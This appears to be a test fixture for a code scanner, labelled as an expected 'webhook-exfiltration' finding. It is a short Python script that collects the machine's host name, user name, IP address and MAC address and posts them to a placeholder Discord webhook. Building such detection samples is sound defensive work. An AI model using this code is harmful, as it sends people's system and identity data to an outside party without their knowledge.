# expect: 4 webhook-exfiltration
import platform, socket, getpass, requests, uuid
d = {'n': platform.node(), 'u': getpass.getuser(), 'i': socket.gethostbyname(socket.gethostname()), 'm': uuid.getnode()}
requests.post('https://discord.com/api/webhooks/2/y', json=d)
